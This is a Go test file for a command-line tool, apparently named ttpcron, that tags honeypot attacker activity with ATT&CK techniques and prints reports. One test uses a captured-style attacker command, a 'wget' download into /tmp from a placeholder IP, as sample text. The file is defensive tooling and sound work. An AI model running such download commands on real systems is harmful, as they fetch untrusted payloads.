package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/importer"
	"github.com/ttpcron/ttpcron/jobs"
	"github.com/ttpcron/ttpcron/kv"
	"github.com/ttpcron/ttpcron/kv/doctor"
)

func TestExitCode(t *testing.T) {
	tests := []struct {
		err  error
		want int
	}{
		{nil, 0},
		{fmt.Errorf("write: %w", syscall.EPIPE), 0},
		{errors.New("x"), 1},
		{jobs.ErrNoRules, 1},
		{&jobs.InputError{Files: []jobs.FileReport{{Err: fs.ErrPermission}}}, 1},
		{usagef("x"), 2},
		{fmt.Errorf("open: %w", &kv.LockedError{}), 75},
		{errors.Join(jobs.ErrInterrupted, errors.New("x")), 130},
		{fmt.Errorf("read: %w", context.Canceled), 130},
	}
	for _, tt := range tests {
		if got := exitCode(tt.err); got != tt.want {
			t.Errorf("%v: exit %d, want %d", tt.err, got, tt.want)
		}
	}
}

// TestLayers is the table of who wins: flags, the environment, the file.
func TestLayers(t *testing.T) {
	file := filepath.Join(t.TempDir(), "c.toml")
	if err := os.WriteFile(file, []byte("role = \"agent\"\ninputs = [\"a\", \"b,c\"]\n[run-once]\nbatch-size = 7\ndry-run = true\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		env  map[string]string
		args []string
		want string
	}{
		{"default", nil, nil, "standalone 500 false []"},
		{"file", map[string]string{"TTPCRON_CONFIG": file}, nil, "agent 7 true [a b,c]"},
		{"file by flag", nil, []string{"--config", file}, "agent 7 true [a b,c]"},
		{"environment", map[string]string{"TTPCRON_CONFIG": file, "TTPCRON_ROLE": "master", "TTPCRON_BATCH_SIZE": "8", "TTPCRON_INPUT": "d,e"}, nil, "master 8 true [d e]"},
		{"empty is unset", map[string]string{"TTPCRON_CONFIG": file, "TTPCRON_ROLE": ""}, nil, "agent 7 true [a b,c]"},
		{"DECNET's mode", map[string]string{"DECNET_MODE": " Agent\n"}, nil, "agent 500 false []"},
		{"DECNET's mode over the file", map[string]string{"TTPCRON_CONFIG": file, "DECNET_MODE": "MASTER"}, nil, "master 7 true [a b,c]"},
		{"ours over DECNET's", map[string]string{"TTPCRON_ROLE": "standalone", "DECNET_MODE": "agent"}, nil, "standalone 500 false []"},
		{"flag over DECNET's", map[string]string{"DECNET_MODE": "agent"}, []string{"--role", "master"}, "master 500 false []"},
		{"no mode of DECNET's", map[string]string{"TTPCRON_CONFIG": file, "DECNET_MODE": "swarm"}, nil, "agent 7 true [a b,c]"},
		{"flags", map[string]string{"TTPCRON_CONFIG": file, "TTPCRON_ROLE": "master", "TTPCRON_BATCH_SIZE": "8"},
			[]string{"--role", "standalone", "--batch-size=9", "--dry-run=false", "--input", "f"}, "standalone 9 false [f]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := map[string]string{"TTPCRON_CONFIG": os.DevNull}
			for k, v := range tt.env {
				env[k] = v
			}
			a := newApp(strings.NewReader(""), io.Discard, io.Discard, env)
			c := a.runOnceCommand()
			a.root = a.rootCommand()
			var got string
			c.run = func(context.Context, []string) error {
				f := func(name string) string { return c.fs.Lookup(name).Value.String() }
				got = fmt.Sprint(a.set.role, " ", f("batch-size"), " ", f("dry-run"), " ", []string(a.set.inputs))
				return nil
			}
			node := a.build(c)
			if err := node.Parse(tt.args); err != nil {
				t.Fatal(err)
			}
			if err := node.Run(t.Context()); err != nil {
				t.Fatal(err)
			}
			if got != tt.want {
				t.Errorf("got %s, want %s", got, tt.want)
			}
		})
	}
}

func TestParseWhen(t *testing.T) {
	now := time.Date(2026, 5, 20, 12, 0, 0, 0, time.UTC)
	for in, want := range map[string]string{
		"":                          "0001-01-01T00:00:00Z",
		"2026-05-04T05:49:05Z":      "2026-05-04T05:49:05Z",
		"2026-05-04T05:49:05+02:00": "2026-05-04T03:49:05Z",
		"2026-05-04":                "2026-05-04T00:00:00Z",
		"7d":                        "2026-05-13T12:00:00Z",
		"36h":                       "2026-05-19T00:00:00Z",
		"1w1d12h30m":                "2026-05-11T23:30:00Z",
		"0s":                        "2026-05-20T12:00:00Z",
	} {
		got, err := parseWhen(in, now)
		if err != nil || got.Format(time.RFC3339) != want {
			t.Errorf("parseWhen(%q) = %v, %v, want %s", in, got, err, want)
		}
	}
	for _, in := range []string{"yesterday", "7", "-7d", "d", "1d2w", "99999d", "1.5d", "2026-13-01", "-1h", "9999999h1000000000000h"} {
		if got, err := parseWhen(in, now); err == nil {
			t.Errorf("parseWhen(%q) = %v", in, got)
		}
	}
}

func TestNearest(t *testing.T) {
	names := []string{"import", "run-once", "tags", "status"}
	for in, want := range map[string]string{"improt": "import", "runonce": "run-once", "tag": "tags", "STATUS": "status", "frobnicate": "", "x": ""} {
		if got := nearest(in, names); got != want {
			t.Errorf("nearest(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestExcerpt(t *testing.T) {
	for evidence, want := range map[string]string{
		`{"command_text":"id","matched":"x"}`:                  "id",
		`{"metric":"m","matched_signature":"s"}`:               "s",
		`{"metric":"m"}`:                                       `{"metric":"m"}`,
		`{"command_text":"\u001b[2J\udcff"}`:                   `\x1b[2J\xff`,
		`not json`:                                             "not json",
		`{"command_text":"` + strings.Repeat("a", 5000) + `"}`: strings.Repeat("a", maxExcerpt-1) + "~",
	} {
		if got := excerpt(&ttpcron.Tag{Evidence: []byte(evidence)}, terminal{}); got != want {
			t.Errorf("%.60s: got %.80q", evidence, got)
		}
	}
}

func TestUnderline(t *testing.T) {
	text := "cd /tmp\n; wget http://203.0.113.9/a"
	got := underline(text, 10, 14, terminal{})
	if want := "      cd /tmp\\n; wget http://203.0.113.9/a\n                 ^^^^\n"; got != want {
		t.Errorf("got\n%swant\n%s", got, want)
	}
	for _, bad := range [][2]int{{-1, 3}, {3, 3}, {4, 99}} {
		if underline(text, bad[0], bad[1], terminal{}) != "" {
			t.Errorf("%v is underlined", bad)
		}
	}
}

func TestPicture(t *testing.T) {
	p := picture{title: "since then", about: true, techniques: []techniqueCount{
		{"TA0002", "T1059.004", 10}, {"TA0007", "T1082", 40}, {"TA9999", "T9999", 1}, {"TA0007", "T1033", 20},
	}}
	for i := range 8 {
		p.techniques = append(p.techniques, techniqueCount{"TA0040", fmt.Sprintf("T148%d", i), 1})
	}
	p.attackers = []attackerCount{{"203.0.113.7", 50, "2 techniques"}, {"bad\x1b", 1, "1 technique"}}
	var b strings.Builder
	if err := p.print(&b, terminal{}); err != nil {
		t.Fatal(err)
	}
	want, err := os.ReadFile("testdata/picture.txt")
	if *update {
		want, err = []byte(b.String()), os.WriteFile("testdata/picture.txt", []byte(b.String()), 0o666)
	}
	if err != nil {
		t.Fatal(err)
	}
	if b.String() != string(want) {
		t.Errorf("got\n%s", b.String())
	}
	for _, width := range []int{20, 60, 80, 100, 200} {
		b.Reset()
		p.print(&b, terminal{width: width})
		for _, line := range strings.Split(b.String(), "\n") {
			if len(line) > max(width, 80) {
				t.Errorf("width %d: %d cells: %s", width, len(line), line)
			}
		}
	}
}

// TestHints holds what is said about errors of other packages.
func TestHints(t *testing.T) {
	var a app
	for _, tt := range []struct {
		err  error
		want string
	}{
		{&doctor.NoSpaceError{Dir: "/backup"}, "free some space there"},
		{&kv.LockedError{Path: "t.db"}, "--lock-timeout"},
		{&jobs.InputError{Files: []jobs.FileReport{{Err: &importer.UnknownFormatError{Path: "a.log"}}}}, "lists the formats"},
		{&jobs.InputError{Files: []jobs.FileReport{{Err: fs.ErrNotExist}}}, "correct the input"},
	} {
		if got := a.hint(t.Context(), fmt.Errorf("doing something: %w", tt.err)); !strings.Contains(got, tt.want) {
			t.Errorf("%v: hint %q, want %q in it", tt.err, got, tt.want)
		}
	}
}
